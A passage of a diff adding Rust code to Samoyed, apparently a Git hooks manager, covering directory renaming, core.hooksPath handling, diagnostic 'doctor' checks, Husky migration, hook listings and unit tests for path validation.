+
+    if !samoyed_dir.is_dir() {
+        return Err(format!(
+            "{}: {}",
+            ERR_RENAME_SOURCE_MISSING,
+            samoyed_dir.display()
+        ));
+    }
+    if new_samoyed_dir.exists() {
+        return Err(format!(
+            "{}: {}",
+            ERR_RENAME_TARGET_EXISTS,
+            new_samoyed_dir.display()
+        ));
+    }
+    let git_root_canonical = canonicalize_path(&git_root)
+        .map_err(|e| format!("{}: {}", ERR_FAILED_CANONICALIZE_GIT_ROOT, e))?;
+    if samoyed_dir == git_root_canonical || new_samoyed_dir.starts_with(&samoyed_dir) {
+        return Err(ERR_RENAME_INVALID_TARGET.to_string());
+    }
+
+    // Refuse before moving anything if core.hooksPath belongs to another tool
+    check_hooks_path_conflict(&git_root, &samoyed_dir)?;
+    let previous_hooks_path = get_git_hooks_path()?;
+
+    if let Some(parent) = new_samoyed_dir.parent() {
+        fs::create_dir_all(parent).map_err(|e| {
+            format!(
+                "{} '{}': {}",
+                ERR_FAILED_CREATE_SAMOYED_DIR,
+                parent.display(),
+                e
+            )
+        })?;
+    }
+    fs::rename(&samoyed_dir, &new_samoyed_dir).map_err(|e| {
+        format!(
+            "{} '{}' -> '{}': {}",
+            ERR_FAILED_RENAME_DIR,
+            samoyed_dir.display(),
+            new_samoyed_dir.display(),
+            e
+        )
+    })?;
+
+    if let Err(err) = set_git_hooks_path(&git_root, &new_samoyed_dir, false) {
+        restore_git_hooks_path(previous_hooks_path.as_deref());
+        return Err(match fs::rename(&new_samoyed_dir, &samoyed_dir) {
+            Ok(()) => format!("{err} ({})", MSG_RENAME_ROLLED_BACK),
+            Err(e) => format!("{err} ({}: {})", ERR_FAILED_RENAME_ROLLBACK, e),
+        });
+    }
+
+    log(
+        LogLevel::Info,
+        &format!(
+            "Moved {} -> {}",
+            samoyed_dir.display(),
+            new_samoyed_dir.display()
+        ),
+    );
+    Ok(())
+}
+
+/// Put back the repository-local core.hooksPath value after a failed change
+///
+/// This is a best-effort rollback step; the caller is already reporting the
+/// original failure.
+///
+/// # Arguments
+///
+/// * `previous` - The value to restore, or `None` to unset core.hooksPath
+fn restore_git_hooks_path(previous: Option<&str>) {
+    let mut command = Command::new("git");
+    command.args(["config", "--local"]);
+    match previous {
+        Some(value) => command.args([HOOKS_PATH_CONFIG_KEY, value]),
+        None => command.args(["--unset", HOOKS_PATH_CONFIG_KEY]),
+    };
+    let _ = command.status();
+}
+
+/// Read the repository-local git config core.hooksPath value
+///
+/// # Returns
+///
+/// Returns `Some(value)` if core.hooksPath is set locally, `None` if it is unset,
+/// or an error message if git could not be queried
+fn get_git_hooks_path() -> Result<Option<String>, String> {
+    read_git_hooks_path(&["--local"])
+}
+
+/// Read the core.hooksPath value Git will actually use
+///
+/// Unlike `get_git_hooks_path`, this considers every config source, including
+/// worktree config and `GIT_CONFIG_*` / `-c` overrides that take precedence over
+/// the local value.
+///
+/// # Returns
+///
+/// Returns `Some(value)` if core.hooksPath is set anywhere, `None` if it is unset,
+/// or an error message if git could not be queried
+fn get_effective_hooks_path() -> Result<Option<String>, String> {
+    read_git_hooks_path(&[])
+}
+
+/// Run `git config [scope] --get core.hooksPath`
+///
+/// # Arguments
+///
+/// * `scope` - Scope flags passed to `git config`, e.g. `--local`
+///
+/// # Returns
+///
+/// Returns the value if set, `None` if unset, or an error message on failure
+fn read_git_hooks_path(scope: &[&str]) -> Result<Option<String>, String> {
+    let output = Command::new("git")
+        .arg("config")
+        .args(scope)
+        .args(["--get", HOOKS_PATH_CONFIG_KEY])
+        .output()
+        .map_err(|e| format!("{}: {}", ERR_FAILED_EXECUTE_GIT, e))?;
+
+    if output.status.success() {
+        let value = String::from_utf8_lossy(&output.stdout).trim().to_string();
+        return Ok(Some(value));
+    }
+
+    // `git config --get` exits with 1 when the key is not set
+    if output.status.code() == Some(1) {
+        return Ok(None);
+    }
+
+    Err(ERR_FAILED_GET_HOOKS_PATH.to_string())
+}
+
+/// Unset git config core.hooksPath if it points to the samoyed `_` directory
+///
+/// The configured value is resolved against the git root (Git resolves relative
+/// values the same way) and compared with the expected wrapper directory, so both
+/// relative and absolute values are recognized.
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `force` - Only warn, instead of failing, if core.hooksPath belongs to another tool
+///
+/// # Returns
+///
+/// Returns Ok(true) if core.hooksPath was unset, Ok(false) if it was not set or
+/// belongs to another tool and `force` is set, or an error message otherwise
+fn unset_git_hooks_path(git_root: &Path, samoyed_dir: &Path, force: bool) -> Result<bool, String> {
+    let Some(hooks_path) = get_git_hooks_path()? else {
+        return Ok(false);
+    };
+
+    if !hooks_path_matches(git_root, samoyed_dir, &hooks_path)? {
+        if !force {
+            return Err(format!(
+                "{} (core.hooksPath: {}; pass --force to remove the Samoyed files anyway)",
+                ERR_FOREIGN_HOOKS_PATH, hooks_path
+            ));
+        }
+        log(
+            LogLevel::Warn,
+            &format!(
+                "{} (core.hooksPath: {})",
+                WARN_FOREIGN_HOOKS_PATH, hooks_path
+            ),
+        );
+        return Ok(false);
+    }
+
+    let status = Command::new("git")
+        .args(["config", "--local", "--unset", HOOKS_PATH_CONFIG_KEY])
+        .status()
+        .map_err(|e| format!("{}: {}", ERR_FAILED_SET_GIT_CONFIG, e))?;
+
+    if !status.success() {
+        return Err(ERR_FAILED_UNSET_HOOKS_PATH.to_string());
+    }
+
+    log(
+        LogLevel::Info,
+        &format!("Unset core.hooksPath (was: {})", hooks_path),
+    );
+    Ok(true)
+}
+
+/// Diagnose the Samoyed setup of the current git repository
+///
+/// Runs every check, prints one line per check with remediation hints for
+/// failures, and fails if any critical check failed so it can gate CI.
+///
+/// # Arguments
+///
+/// * `dirname` - The directory name for Samoyed hooks
+/// * `options` - Optional checks to run
+///
+/// # Returns
+///
+/// Returns Ok(()) if no check failed, or an error message otherwise
+fn doctor_samoyed(dirname: &str, options: DoctorOptions) -> Result<(), String> {
+    let checks = run_doctor_checks(dirname, options);
+    for check in &checks {
+        println!("{}", check.render());
+    }
+
+    let failed = checks
+        .iter()
+        .filter(|check| check.status == CheckStatus::Fail)
+        .count();
+    if failed > 0 {
+        return Err(format!(
+            "{} ({} check(s) failed)",
+            ERR_DOCTOR_CHECKS_FAILED, failed
+        ));
+    }
+
+    Ok(())
+}
+
+/// Run all doctor checks for the given samoyed directory name
+///
+/// Checks that need a repository are skipped when git is unavailable or the
+/// current directory is not inside a git repository.
+///
+/// # Arguments
+///
+/// * `dirname` - The directory name for Samoyed hooks
+/// * `options` - Optional checks to run
+///
+/// # Returns
+///
+/// Returns the check results in the order they ran
+fn run_doctor_checks(dirname: &str, options: DoctorOptions) -> Vec<DoctorCheck> {
+    let mut checks = vec![check_git_installed()];
+    if checks[0].status == CheckStatus::Fail {
+        return checks;
+    }
+
+    let git_root = match get_git_root() {
+        Ok(git_root) => git_root,
+        Err(err) => {
+            checks.push(DoctorCheck::fail(
+                "repository",
+                err,
+                "run samoyed from inside a git working tree",
+            ));
+            return checks;
+        }
+    };
+
+    let samoyed_dir = match env::current_dir()
+        .map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))
+        .and_then(|current_dir| validate_samoyed_dir(&git_root, &current_dir, dirname))
+    {
+        Ok(samoyed_dir) => samoyed_dir,
+        Err(err) => {
+            checks.push(DoctorCheck::fail(
+                "samoyed directory",
+                err,
+                "pass the samoyed dirname used with `samoyed init`",
+            ));
+            return checks;
+        }
+    };
+
+    checks.push(match get_git_hooks_path() {
+        Ok(configured) => check_hooks_path(&git_root, &samoyed_dir, configured.as_deref()),
+        Err(err) => DoctorCheck::fail(HOOKS_PATH_CONFIG_KEY, err, HINT_RUN_INIT),
+    });
+    checks.push(check_wrapper_script(&samoyed_dir));
+    checks.push(check_hook_stubs(&samoyed_dir));
+    if samoyed_dir
+        .join(WRAPPER_DIR_NAME)
+        .join(DISABLED_MARKER_NAME)
+        .exists()
+    {
+        checks.push(DoctorCheck::warn(
+            "hooks",
+            "disabled by `samoyed disable`",
+            "run `samoyed enable` to turn them back on",
+        ));
+    }
+    checks.push(check_line_endings(&samoyed_dir));
+
+    if options.verify {
+        checks.push(check_script_digests(&samoyed_dir));
+    }
+    if options.git_hooks_coexist {
+        checks.push(match get_git_common_dir() {
+            Ok(git_common_dir) => {
+                check_native_hooks_coexist(&git_common_dir.join(NATIVE_HOOKS_DIR_NAME))
+            }
+            Err(err) => DoctorCheck::warn("native hooks", err, HINT_NATIVE_HOOKS),
+        });
+    }
+    checks
+}
+
+/// Check that git can be executed and report its version
+fn check_git_installed() -> DoctorCheck {
+    match Command::new("git").arg("--version").output() {
+        Ok(output) if output.status.success() => {
+            let reported = String::from_utf8_lossy(&output.stdout).trim().to_string();
+            match parse_git_version(&reported) {
+                Some(version) if version < MIN_GIT_VERSION => DoctorCheck::warn(
+                    "git",
+                    format!("{} does not support core.hooksPath", reported),
+                    "upgrade Git to 2.9 or newer",
+                ),
+                _ => DoctorCheck::ok("git", reported),
+            }
+        }
+        _ => DoctorCheck::fail(
+            "git",
+            "git could not be executed",
+            "install Git and make sure it is on PATH",
+        ),
+    }
+}
+
+/// Check that core.hooksPath points at the samoyed `_` directory
+///
+/// # Arguments
+///
+/// * `git_root` - The root directory of the git repository
+/// * `samoyed_dir` - Path to the samoyed directory
+/// * `configured` - The configured core.hooksPath value, if any
+///
+/// # Returns
+///
+/// Returns the check result
+fn check_hooks_path(git_root: &Path, samoyed_dir: &Path, configured: Option<&str>) -> DoctorCheck {
+    let Some(configured) = configured else {
+        return DoctorCheck::fail(HOOKS_PATH_CONFIG_KEY, "not set", HINT_RUN_INIT);
+    };
+
+    if hooks_path_matches(git_root, samoyed_dir, configured).unwrap_or(false) {
+        return DoctorCheck::ok(HOOKS_PATH_CONFIG_KEY, configured);
+    }
+
+    // Git resolves relative values from the repository root, not from the
+    // directory they were set in, so show where the value really points
+    let resolved = git_root.join(configured);
+    let problem = if !resolved.is_dir() {
+        "which does not exist"
+    } else if !resolved.join(WRAPPER_SCRIPT_NAME).is_file() {
+        "which contains no Samoyed wrapper"
+    } else {
+        "which belongs to another samoyed directory"
+    };
+    DoctorCheck::fail(
+        HOOKS_PATH_CONFIG_KEY,
+        format!(
+            "{} resolves to {}, {}; expected {}",
+            configured,
+            resolved.display(),
+            problem,
+            samoyed_dir.join(WRAPPER_DIR_NAME).display()
+        ),
+        HINT_RUN_INIT,
+    )
+}
+
+/// Check that the wrapper script sourced by every hook exists and is current
+fn check_wrapper_script(samoyed_dir: &Path) -> DoctorCheck {
+    let wrapper_path = samoyed_dir.join(WRAPPER_DIR_NAME).join(WRAPPER_SCRIPT_NAME);
+    if !wrapper_path.is_file() {
+        return DoctorCheck::fail(
+            "wrapper script",
+            format!("{} is missing", wrapper_path.display()),
+            HINT_RUN_INIT,
+        );
+    }
+
+    match read_wrapper_version(&wrapper_path) {
+        Some(version) if version == WRAPPER_VERSION => DoctorCheck::ok(
+            "wrapper script",
+            format!("{} (version {})", wrapper_path.display(), version),
+        ),
+        Some(version) => DoctorCheck::warn(
+            "wrapper script",
+            format!(
+                "{} is stale (version {}, expected {})",
+                wrapper_path.display(),
+                version,
+                WRAPPER_VERSION
+            ),
+            HINT_RUN_INIT,
+        ),
+        None => DoctorCheck::warn(
+            "wrapper script",
+            format!(
+                "{} has no version stamp (expected {})",
+                wrapper_path.display(),
+                WRAPPER_VERSION
+            ),
+            HINT_RUN_INIT,
+        ),
+    }
+}
+
+/// Check that hook stubs are installed and executable
+///
+/// `init --hooks` may install only a subset, so only the stubs present are
+/// checked; having none at all is a failure.
+fn check_hook_stubs(samoyed_dir: &Path) -> DoctorCheck {
+    let wrapper_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    let installed: Vec<&str> = GIT_HOOKS
+        .iter()
+        .copied()
+        .filter(|hook_name| wrapper_dir.join(hook_name).is_file())
+        .collect();
+    if installed.is_empty() {
+        return DoctorCheck::fail("hook scripts", "no hook scripts installed", HINT_RUN_INIT);
+    }
+
+    let not_executable: Vec<&str> = installed
+        .iter()
+        .copied()
+        .filter(|hook_name| !is_executable(&wrapper_dir.join(hook_name)))
+        .collect();
+    if !not_executable.is_empty() {
+        return DoctorCheck::fail(
+            "hook scripts",
+            format!("not executable: {}", not_executable.join(", ")),
+            HINT_RUN_INIT,
+        );
+    }
+
+    DoctorCheck::ok(
+        "hook scripts",
+        format!("{} hooks installed and executable", installed.len()),
+    )
+}
+
+/// Check that the installed generated scripts match what this binary writes
+///
+/// Hashes the wrapper and every installed hook script in the `_` directory,
+/// including `--extra-hooks` scripts, with SHA-256 and compares them with the
+/// digests of the embedded content. The expected digests are computed at run
+/// time rather than at build time: the wrapper carries a version stamp and hook
+/// scripts depend on `--shell`, and both come from the same embedded bytes.
+fn check_script_digests(samoyed_dir: &Path) -> DoctorCheck {
+    let wrapper_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    let expected_wrapper = sha256_hex(&wrapper_script());
+    let extra_hooks = installed_extra_hooks(&wrapper_dir);
+
+    let mut verified = 0;
+    let mut mismatches = Vec::new();
+    for name in std::iter::once(WRAPPER_SCRIPT_NAME)
+        .chain(GIT_HOOKS.iter().copied())
+        .chain(extra_hooks.iter().map(String::as_str))
+    {
+        let Ok(content) = fs::read(wrapper_dir.join(name)) else {
+            continue;
+        };
+        // Hook scripts are checked against the shell they were generated for
+        let expected = if name == WRAPPER_SCRIPT_NAME {
+            expected_wrapper.clone()
+        } else {
+            let shell = read_hook_shell(&String::from_utf8_lossy(&content)).to_string();
+            sha256_hex(hook_script(&shell).as_bytes())
+        };
+        let actual = sha256_hex(&content);
+        if actual == expected {
+            verified += 1;
+        } else {
+            mismatches.push(format!(
+                "{}: expected {}, got {}",
+                wrapper_dir.join(name).display(),
+                expected,
+                actual
+            ));
+        }
+    }
+
+    if mismatches.is_empty() {
+        DoctorCheck::ok("checksums", format!("{} scripts verified", verified))
+    } else {
+        DoctorCheck::fail("checksums", mismatches.join("; "), HINT_RUN_INIT)
+    }
+}
+
+/// Check that generated scripts use LF line endings
+///
+/// CRLF line endings (e.g. introduced by `core.autocrlf`) break POSIX shells.
+fn check_line_endings(samoyed_dir: &Path) -> DoctorCheck {
+    let wrapper_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    let crlf_files: Vec<String> = std::iter::once(WRAPPER_SCRIPT_NAME)
+        .chain(GIT_HOOKS.iter().copied())
+        .filter(|name| {
+            fs::read(wrapper_dir.join(name))
+                .is_ok_and(|content| content.windows(2).any(|pair| pair == b"\r\n"))
+        })
+        .map(str::to_string)
+        .collect();
+
+    if crlf_files.is_empty() {
+        DoctorCheck::ok("line endings", "LF")
+    } else {
+        DoctorCheck::fail(
+            "line endings",
+            format!("CRLF line endings in: {}", crlf_files.join(", ")),
+            "re-run `samoyed init` and check core.autocrlf and .gitattributes",
+        )
+    }
+}
+
+/// Check for active hooks left in the native `.git/hooks` directory
+///
+/// Git ignores them while core.hooksPath is set, but other tools may still run
+/// them, and users who find them there expect them to run.
+fn check_native_hooks_coexist(native_hooks_dir: &Path) -> DoctorCheck {
+    match find_native_hooks(native_hooks_dir) {
+        Ok(native_hooks) if native_hooks.is_empty() => DoctorCheck::ok(
+            "native hooks",
+            format!("no active hooks in {}", native_hooks_dir.display()),
+        ),
+        Ok(native_hooks) => {
+            let names: Vec<String> = native_hooks
+                .iter()
+                .filter_map(|path| path.file_name())
+                .map(|name| name.to_string_lossy().into_owned())
+                .collect();
+            DoctorCheck::warn(
+                "native hooks",
+                format!(
+                    "active hooks in {} alongside Samoyed: {}",
+                    native_hooks_dir.display(),
+                    names.join(", ")
+                ),
+                HINT_NATIVE_HOOKS,
+            )
+        }
+        Err(err) => DoctorCheck::warn("native hooks", err, HINT_NATIVE_HOOKS),
+    }
+}
+
+/// Migrate a Husky setup to Samoyed
+///
+/// Copies each hook script from `.husky/` into the samoyed directory with Husky's
+/// `husky.sh` preamble removed, then runs the normal init. Files that are not Git
+/// hooks are skipped. Without a `.husky/` directory this is a no-op.
+///
+/// A core.hooksPath pointing into `.husky` is replaced; any other value set by
+/// another tool is refused before anything is copied, as plain `init` does.
+///
+/// # Arguments
+///
+/// * `dirname` - The directory name for Samoyed hooks
+///
+/// # Returns
+///
+/// Returns Ok(()) on success, or an error message on failure
+fn migrate_samoyed(dirname: &str) -> Result<(), String> {
+    let git_root = get_git_root()?;
+    let husky_dir = git_root.join(HUSKY_DIR_NAME);
+    if !husky_dir.is_dir() {
+        log(LogLevel::Info, MSG_NO_HUSKY_DIR);
+        return Ok(());
+    }
+
+    let current_dir =
+        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+    let samoyed_dir = validate_samoyed_dir(&git_root, &current_dir, dirname)?;
+
+    // Husky points core.hooksPath into .husky, which migration replaces on purpose
+    let replaces_husky = get_git_hooks_path()?.is_some_and(|hooks_path| {
+        git_root
+            .join(hooks_path)
+            .starts_with(git_root.join(HUSKY_DIR_NAME))
+    });
+    if !replaces_husky {
+        check_hooks_path_conflict(&git_root, &samoyed_dir)?;
+    }
+
+    // Copy the hooks first, so init keeps a migrated pre-commit instead of the sample
+    fs::create_dir_all(&samoyed_dir).map_err(|e| {
+        format!(
+            "{} '{}': {}",
+            ERR_FAILED_CREATE_SAMOYED_DIR,
+            samoyed_dir.display(),
+            e
+        )
+    })?;
+    for report in migrate_husky_hooks(&husky_dir, &samoyed_dir)? {
+        log(LogLevel::Info, &report);
+    }
+
+    let options = InitOptions {
+        force: replaces_husky,
+        ignore_hook_managers: true,
+        ..InitOptions::default()
+    };
+    let report = init_samoyed(dirname, &options)?;
+    for action in &report.actions {
+        log(LogLevel::Debug, &action.describe_applied());
+    }
+    if let Some(output) = report.render(OutputFormat::Human) {
+        let level = if report.bypassed {
+            LogLevel::Info
+        } else {
+            LogLevel::Warn
+        };
+        log(level, &output);
+    }
+
+    Ok(())
+}
+
+/// Copy Husky hook scripts into the samoyed directory
+///
+/// A hook is only written if the target does not exist yet or still holds the
+/// sample pre-commit content generated by init; other existing scripts are kept.
+///
+/// # Arguments
+///
+/// * `husky_dir` - Path to the `.husky` directory
+/// * `samoyed_dir` - Path to the samoyed directory
+///
+/// # Returns
+///
+/// Returns one report line per file in `.husky`, or an error message on failure
+fn migrate_husky_hooks(husky_dir: &Path, samoyed_dir: &Path) -> Result<Vec<String>, String> {
+    let entries = fs::read_dir(husky_dir)
+        .map_err(|e| format!("{} '{}': {}", ERR_FAILED_READ_HUSKY, husky_dir.display(), e))?;
+    let mut sources: Vec<PathBuf> = entries
+        .filter_map(|entry| entry.ok().map(|entry| entry.path()))
+        .filter(|path| path.is_file())
+        .collect();
+    sources.sort();
+
+    let mut reports = Vec::with_capacity(sources.len());
+    for source in sources {
+        let name = source
+            .file_name()
+            .map(|name| name.to_string_lossy().into_owned())
+            .unwrap_or_default();
+        if !GIT_HOOKS.contains(&name.as_str()) {
+            reports.push(format!("Skipped {}: not a Git hook", source.display()));
+            continue;
+        }
+
+        let target = samoyed_dir.join(&name);
+        let replaceable = fs::read(&target)
+            .map(|content| {
+                let content = String::from_utf8_lossy(&content);
+                content.split_once('\n').map(|(_, body)| body)
+                    == SAMPLE_PRE_COMMIT_CONTENT
+                        .split_once('\n')
+                        .map(|(_, body)| body)
+            })
+            .unwrap_or(true);
+        if !replaceable {
+            reports.push(format!(
+                "Skipped {}: {} already exists",
+                source.display(),
+                target.display()
+            ));
+            continue;
+        }
+
+        let script = fs::read_to_string(&source)
+            .map_err(|e| format!("{} '{}': {}", ERR_FAILED_MIGRATE_HOOK, name, e))?;
+        fs::write(&target, strip_husky_preamble(&script))
+            .map_err(|e| format!("{} '{}': {}", ERR_FAILED_MIGRATE_HOOK, name, e))?;
+        reports.push(format!(
+            "Migrated {} -> {}",
+            source.display(),
+            target.display()
+        ));
+    }
+
+    Ok(reports)
+}
+
+/// Remove the line that sources Husky's `husky.sh` from a hook script
+///
+/// Husky v8 scripts start with `. "$(dirname -- "$0")/_/husky.sh"`; Samoyed's
+/// wrapper does that job, so the line and a blank line following it are dropped.
+fn strip_husky_preamble(script: &str) -> String {
+    let mut stripped = String::with_capacity(script.len());
+    let mut lines = script.lines().peekable();
+    while let Some(line) = lines.next() {
+        let trimmed = line.trim();
+        if trimmed.starts_with('.') && trimmed.contains("husky.sh") {
+            lines.next_if(|next| next.trim().is_empty());
+            continue;
+        }
+        stripped.push_str(line);
+        stripped.push('\n');
+    }
+    stripped
+}
+
+/// Print each Git hook Samoyed manages and how it is configured
+///
+/// Every hook in `GIT_HOOKS` is shown, including hooks with no script, so the
+/// output doubles as an audit of what runs in a repository.
+///
+/// # Arguments
+///
+/// * `dirname` - The directory name for Samoyed hooks
+/// * `format` - Output format for the listing
+///
+/// # Returns
+///
+/// Returns Ok(()) on success, or an error message on failure
+fn list_samoyed(dirname: &str, format: ListFormat) -> Result<(), String> {
+    let git_root = get_git_root()?;
+    let current_dir =
+        env::current_dir().map_err(|e| format!("{}: {}", ERR_FAILED_CURRENT_DIR, e))?;
+    let samoyed_dir = validate_samoyed_dir(&git_root, &current_dir, dirname)?;
+
+    println!(
+        "{}",
+        render_hook_listings(&list_hooks(&samoyed_dir), format)
+    );
+    Ok(())
+}
+
+/// Determine the source of every hook in `GIT_HOOKS`
+///
+/// # Arguments
+///
+/// * `samoyed_dir` - Path to the samoyed directory
+///
+/// # Returns
+///
+/// Returns one listing per hook, in `GIT_HOOKS` order
+fn list_hooks(samoyed_dir: &Path) -> Vec<HookListing> {
+    let wrapper_dir = samoyed_dir.join(WRAPPER_DIR_NAME);
+    GIT_HOOKS
+        .iter()
+        .map(|&name| {
+            let script_path = samoyed_dir.join(name);
+            let enabled = wrapper_dir.join(name).is_file();
+            if script_path.is_file() {
+                HookListing {
+                    name,
+                    source: HookSource::Script,
+                    preview: script_preview(&script_path),
+                    enabled,
+                }
+            } else {
+                HookListing {
+                    name,
+                    source: HookSource::Unconfigured,
+                    preview: None,
+                    enabled,
+                }
+            }
+        })
+        .collect()
+}
+
+/// Describe when Git runs a hook, for generated documentation
+///
+/// # Arguments
+///
+/// * `hook_name` - A hook name from `GIT_HOOKS`
+///
+/// # Returns
+///
+/// Returns a one-line description of the hook
+fn hook_description(hook_name: &str) -> &'static str {
+    match hook_name {
+        "applypatch-msg" => "Checks the commit message of a patch applied by git am",
+        "commit-msg" => "Checks the commit message before the commit is recorded",
+        "post-applypatch" => "Runs after git am applies a patch",
+        "post-checkout" => "Runs after git checkout or git switch updates the worktree",
+        "post-commit" => "Runs after a commit is recorded",
+        "post-merge" => "Runs after a successful merge",
+        "post-rewrite" => "Runs after git commit --amend or git rebase rewrites commits",
+        "pre-applypatch" => "Checks the worktree after git am applies a patch",
+        "pre-auto-gc" => "Runs before git gc --auto and can stop it",
+        "pre-commit" => "Checks the staged changes before the commit message is asked for",
+        "pre-merge-commit" => "Checks a merge before its merge commit is recorded",
+        "pre-push" => "Checks the refs being pushed before anything is sent",
+        "pre-rebase" => "Runs before git rebase and can stop it",
+        "prepare-commit-msg" => "Prepares the default commit message before the editor opens",
+        _ => "",
+    }
+}
+
+/// Extract the first meaningful line of a hook script for previews
+///
+/// The shebang and blank lines are skipped, and long lines are truncated to
+/// `PREVIEW_MAX_CHARS` characters.
+///
+/// # Arguments
+///
+/// * `path` - Path to the hook script
+///
+/// # Returns
+///
+/// Returns the preview line, or `None` if the script is unreadable or empty
+fn script_preview(path: &Path) -> Option<String> {
+    let content = fs::read(path).ok()?;
+    let content = String::from_utf8_lossy(&content);
+    let line = content
+        .lines()
+        .map(str::trim)
+        .find(|line| !line.is_empty() && !line.starts_with("#!"))?;
+
+    if line.chars().count() > PREVIEW_MAX_CHARS {
+        let truncated: String = line.chars().take(PREVIEW_MAX_CHARS - 3).collect();
+        Some(format!("{truncated}..."))
+    } else {
+        Some(line.to_string())
+    }
+}
+
+/// Render hook listings as an aligned table, a JSON array or a Markdown table
+///
+/// # Arguments
+///
+/// * `listings` - The hook listings to render
+/// * `format` - The output format
+///
+/// # Returns
+///
+/// Returns the rendered listing
+fn render_hook_listings(listings: &[HookListing], format: ListFormat) -> String {
+    match format {
+        ListFormat::Table => render_hook_table(listings),
+        ListFormat::Json => render_hook_json(listings),
+        ListFormat::Markdown => render_hook_markdown(listings),
+    }
+}
+
+/// Render hook listings as a JSON array
+fn render_hook_json(listings: &[HookListing]) -> String {
+    let items = listings
+        .iter()
+        .map(|listing| {
+            format!(
+                r#"  {{"hook": {}, "source": {}, "preview": {}, "enabled": {}}}"#,
+                json_string(listing.name),
+                json_string(listing.source.as_str()),
+                listing
+                    .preview
+                    .as_deref()
+                    .map_or_else(|| "null".to_string(), json_string),
+                listing.enabled
+            )
+        })
+        .collect::<Vec<_>>()
+        .join(",\n");
+    format!("[\n{items}\n]")
+}
+
+/// Render hook listings as an aligned plain-text table
+fn render_hook_table(listings: &[HookListing]) -> String {
+    let hook_width = GIT_HOOKS.iter().map(|name| name.len()).max().unwrap_or(0);
+    let source_width = HookSource::Unconfigured.as_str().len();
+    let mut lines = vec![format!(
+        "{:<hook_width$}  {:<source_width$}  PREVIEW",
+        "HOOK", "SOURCE"
+    )];
+    for listing in listings {
+        let row = format!(
+            "{:<hook_width$}  {:<source_width$}  {}",
+            listing.name,
+            listing.source.as_str(),
+            listing.preview.as_deref().unwrap_or("")
+        );
+        lines.push(row.trim_end().to_string());
+    }
+    lines.join("\n")
+}
+
+/// Render hook listings as a Markdown table for documentation
+fn render_hook_markdown(listings: &[HookListing]) -> String {
+    let mut lines = vec![
+        "| Hook | Source | Description | Enabled |".to_string(),
+        "| --- | --- | --- | --- |".to_string(),
+    ];
+    for listing in listings {
+        lines.push(format!(
+            "| `{}` | {} | {} | {} |",
+            listing.name,
+            listing.source.as_str(),
+            hook_description(listing.name),
+            if listing.enabled { "yes" } else { "no" }
+        ));
+    }
+    lines.join("\n")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use std::fs;
+    use std::path::PathBuf;
+    use std::process::Command as StdCommand;
+    use tempfile::TempDir;
+
+    #[cfg(unix)]
+    use std::os::unix::fs::PermissionsExt;
+
+    /// Test parsing real-world `git --version` output
+    #[test]
+    fn test_parse_git_version() {
+        let version = |major, minor, patch| GitVersion {
+            major,
+            minor,
+            patch,
+        };
+        assert_eq!(
+            parse_git_version("git version 2.34.1\n"),
+            Some(version(2, 34, 1))
+        );
+        assert_eq!(
+            parse_git_version("git version 2.39.3 (Apple Git-146)"),
+            Some(version(2, 39, 3))
+        );
+        assert_eq!(
+            parse_git_version("git version 2.45.1.windows.1"),
+            Some(version(2, 45, 1))
+        );
+        assert_eq!(
+            parse_git_version("git version 2.9.0-rc2"),
+            Some(version(2, 9, 0))
+        );
+        assert_eq!(parse_git_version("git version 3.0"), Some(version(3, 0, 0)));
+        assert_eq!(parse_git_version("hub version 2.14.2"), None);
+        assert_eq!(parse_git_version("git version"), None);
+
+        assert!(version(1, 8, 5) < MIN_GIT_VERSION);
+        assert!(version(2, 9, 0) >= MIN_GIT_VERSION);
+        assert!(version(2, 10, 0) > version(2, 9, 5));
+        assert_eq!(version(2, 45, 1).to_string(), "2.45.1");
+    }
+
+    /// Test check_bypass_mode function
+    #[test]
     fn test_check_bypass_mode() {
         // Test when SAMOYED is not set
         unsafe {
             env::remove_var("SAMOYED");
         }
-        assert!(!check_bypass_mode());
+        assert!(!check_bypass_mode());
+
+        // Test when SAMOYED=0
+        unsafe {
+            env::set_var("SAMOYED", "0");
+        }
+        assert!(check_bypass_mode());
+
+        // Test when SAMOYED=1
+        unsafe {
+            env::set_var("SAMOYED", "1");
+        }
+        assert!(!check_bypass_mode());
+
+        // Test when SAMOYED=2
+        unsafe {
+            env::set_var("SAMOYED", "2");
+        }
+        assert!(!check_bypass_mode());
+
+        // Clean up
+        unsafe {
+            env::remove_var("SAMOYED");
+        }
+    }
+
+    /// Test validate_samoyed_dir function with valid paths
+    #[test]
+    fn test_validate_samoyed_dir_valid() {
+        let temp_dir = TempDir::new().unwrap();
+        let git_root = temp_dir.path();
+
+        // Test with simple directory name
+        let result = validate_samoyed_dir(git_root, git_root, ".samoyed");
+        assert!(result.is_ok());
+        let path = result.unwrap();
+        let expected = canonicalize_allowing_nonexistent(&git_root.join(".samoyed"))
+            .expect("failed to canonicalize expected path");
+        assert_eq!(path, expected);
+
+        // Test with nested directory
+        let result = validate_samoyed_dir(git_root, git_root, "hooks/samoyed");
+        assert!(result.is_ok());
+    }
+
+    /// Test validate_samoyed_dir function with invalid paths
+    #[test]
+    fn test_validate_samoyed_dir_invalid() {
+        let temp_dir = TempDir::new().unwrap();
+        let git_root = temp_dir.path();
+
+        // Test with path outside git root
+        let result = validate_samoyed_dir(git_root, git_root, "..");
+        assert!(result.is_err());
+
+        // Test with absolute path outside git root
+        let result = validate_samoyed_dir(git_root, git_root, "/tmp/outside");
+        assert!(result.is_err());
+    }
+
+    /// Test validate_samoyed_dir rejects symlinks that resolve outside the repository
+    #[cfg(unix)]
+    #[test]
+    fn test_validate_samoyed_dir_symlink_escape() {
+        use std::os::unix::fs::symlink;
+
+        let temp_dir = TempDir::new().unwrap();
+        let git_root = temp_dir.path().join("repo");
+        let outside = temp_dir.path().join("outside");
+        fs::create_dir_all(&git_root).unwrap();
+        fs::create_dir_all(&outside).unwrap();
+
+        // A link to an existing directory outside the repository
+        symlink(&outside, git_root.join("escape")).unwrap();
+        let err = validate_samoyed_dir(&git_root, &git_root, "escape/hooks").unwrap_err();
+        assert!(err.starts_with(ERR_OUTSIDE_GIT_REPO));
+
+        // A dangling link whose target would be created outside the repository
+        symlink(outside.join("missing"), git_root.join("dangling")).unwrap();
